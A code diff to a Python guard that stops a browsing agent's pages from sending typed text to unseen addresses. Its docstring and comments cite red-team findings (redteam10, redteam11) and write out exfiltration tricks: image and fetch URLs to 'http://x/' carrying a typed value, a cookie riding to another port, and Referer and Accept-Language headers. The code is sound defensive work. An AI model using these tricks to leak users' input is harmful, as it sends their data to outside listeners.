@@ -9,13 +9,16 @@ page's nor one its forms showed in the last observation, nor one the run went to
 ``browser_goto``, is aborted, and the observation says so. That holds for GETs too (redteam10): a script can put
 what was typed into a URL (``new Image().src = 'http://x/?' + value``, ``fetch(url + '?q=' + value)``,
 ``location = …``), so after the typing only a URL the page already requested before it (a resource loaded
-again: it cannot hold the typed text) may go to another address. A WebSocket to another address is refused
+again: it cannot hold the typed text) may go to another address, and only with the headers a script can set as
+they were then (redteam11: cookies are kept per host, not per port, so ``document.cookie = value`` rode along to a
+listener on another port of the same host; ``Accept-Language`` and the Referer can carry text too). A WebSocket to another address is refused
 the same way, and one opened before the typing may not send to it afterwards. What a page sends before the
 agent typed anything into it (its own data) is left to the network sandbox (``network`` and ``allowed_hosts``).
 """
 
 from __future__ import annotations
 
+import re
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -33,6 +36,21 @@ def address(url: str) -> str:
     return f"{(parts.hostname or '').lower()}:{port}" if parts.hostname else ""
 
 
+# headers the browser sets from a fixed set of values; every other one a page's script can fill with what was
+# typed: the Cookie (``document.cookie``), Accept-Language and the other safelisted headers of a no-cors fetch,
+# the Referer (``history.replaceState`` with ``referrerPolicy: 'unsafe-url'``), custom headers after a preflight
+_FIXED = re.compile(r"^(?:sec-fetch-.*|sec-ch-ua.*|priority|user-agent|accept-encoding|connection|host|"
+                    r"upgrade-insecure-requests|cache-control|pragma)$")
+
+
+def _headers(request: Any) -> dict:
+    """The headers of a request that a page's script could have set."""
+    try:
+        return {k: v for k, v in request.all_headers().items() if not _FIXED.match(k.lower())}
+    except Exception:  # noqa: BLE001  (the browser is closing: nothing is sent)
+        return {"?": "?"}
+
+
 class SendGate:
     """Aborts requests that carry data to an address the guard was not shown (see the module's docstring)."""
 
@@ -42,10 +60,12 @@ class SendGate:
         self.stopped: list[str] = []  # "METHOD URL" of each request aborted
         self.armed = False  # the agent typed into the page since the last browser_goto
         self.before: set[str] = set()  # URLs requested since the last browser_goto, before any typing
+        self.headers: dict[str, dict] = {}  # the headers each of those went to another address with (_headers)
 
     def went(self, url: str) -> None:
         self.armed = False
         self.before.clear()
+        self.headers.clear()
         if a := address(url):
             self.gone.add(a)
 
@@ -61,11 +81,14 @@ class SendGate:
         if not self.armed:
             if len(self.before) < _MAX_BEFORE:
                 self.before.add(request.url)
+                if not self._allowed(request.url):
+                    self.headers[request.url] = _headers(request)
             route.fallback()
             return
         if self._allowed(request.url) or (method in _SAFE_METHODS and not request.post_data_buffer
-                                          and request.url in self.before):
-            route.fallback()
+                                          and request.url in self.before
+                                          and _headers(request) == self.headers.get(request.url, {})):
+            route.fallback()  # a resource loaded again, with the headers it had (cookies are per host, not port)
             return
         self.stopped.append(f"{method} {request.url[:200]}")
         route.abort("blockedbyclient")
